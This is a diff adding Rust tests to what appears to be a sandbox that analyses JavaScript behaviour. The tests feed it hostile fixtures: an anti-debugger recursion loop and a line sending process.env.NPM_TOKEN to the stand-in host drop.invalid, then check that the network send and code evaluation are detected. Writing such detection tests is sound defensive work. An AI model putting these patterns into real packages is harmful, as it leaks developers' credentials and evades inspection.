@@ -8,7 +8,7 @@ use stockade_model::{TreeFile, Trigger};
 use crate::plan::{Entry, Plan, Start};
 use crate::testing::{Scene, token};
 use crate::{RunLimits, WorldSpec};
-use stockade_model::{Encoding, Operation};
+use stockade_model::{Encoding, Observation, Operation};
 
 fn layers(text: &str) -> Vec<(String, String)> {
     let seen = Scene::new().text(text);
@@ -115,6 +115,30 @@ fn hostile_loops_and_hoards_end_as_gaps() {
         let seen = scene.text(text);
         assert_eq!(seen.end.ends.len(), 1, "{text}");
     }
+}
+
+#[test]
+fn a_guard_against_debuggers_leaves_room_for_what_it_guards() {
+    let mut scene = Scene::new();
+    scene.limits.ticks = 20_000;
+    let seen = scene.text(
+        "function guard(depth) { Function('debugger')(); guard(depth + 1) } \
+         const again = () => { try { guard(0) } catch {} }; again(); setInterval(again, 4000); \
+         require('https').get('https://drop.invalid/?' + process.env.NPM_TOKEN)",
+    );
+    assert_eq!(seen.end.gaps, []);
+    assert!(seen.of(Operation::NetSend).iter().any(|sent| sent.labels.iter().any(|label| label.is_sent())));
+    assert!(seen.of(Operation::CodeEval).len() <= 2 * Observation::KEPT_REPEATS as usize);
+}
+
+#[test]
+fn an_interval_that_brings_news_goes_on() {
+    let seen = Scene::new().text(
+        "let turn = 0; const busy = setInterval(() => { for (let i = 0; i < 1e6; i++); turn += 1; \
+         if (turn === 9) { clearInterval(busy); require('https').get('https://drop.invalid/9') } \
+         else require('fs').writeFileSync('/tmp/' + turn, 'x') }, 1000)",
+    );
+    assert_eq!(seen.of(Operation::NetSend).len(), 1);
 }
 
 #[test]
